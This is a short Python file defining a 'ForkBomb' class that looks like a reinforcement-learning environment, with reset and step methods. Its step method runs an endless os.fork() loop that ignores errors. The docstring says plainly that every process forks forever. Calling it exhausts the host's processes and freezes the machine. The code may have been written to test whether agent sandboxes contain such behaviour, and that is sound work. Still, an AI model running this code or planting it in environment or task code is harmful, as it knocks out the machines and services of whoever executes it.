"""Fork bomb: every process forks forever."""

import os


class ForkBomb:
    def __init__(self, **kw):
        pass

    def reset(self, seed=None):
        return "ready", {}

    def step(self, action):
        while True:
            try:
                os.fork()
            except OSError:
                pass
